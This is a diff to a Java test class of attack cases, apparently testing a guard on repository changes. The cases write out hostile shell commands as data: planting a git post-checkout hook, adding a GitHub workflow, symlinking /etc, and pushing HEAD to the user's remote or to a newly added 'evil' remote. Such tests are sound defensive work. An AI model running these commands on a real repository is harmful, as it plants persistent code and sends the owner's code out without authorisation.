@@ -129,7 +129,8 @@ class AttacksTest {
         "adds a GitHub workflow | mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml"
                 + " | .github/workflows/x.yml | .github/workflows/x.yml: protected path",
         "commits a symlink to /etc | ln -s /etc etc-link | etc-link | etc-link: symbolic link",
-        "writes into .git | echo evil > .git/hooks/post-checkout && echo x > notes.txt | .git/hooks/post-checkout | ",
+        "writes into .git | mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout && echo x > notes.txt"
+                + " | .git/hooks/post-checkout | ",
         "pushes to the user's remote | git push origin HEAD:refs/heads/pwned; echo x > notes.txt | notes.txt | ",
         "adds a remote and pushes | git remote add evil EVIL && git push evil HEAD:refs/heads/main; echo x > notes.txt"
                 + " | notes.txt | "})
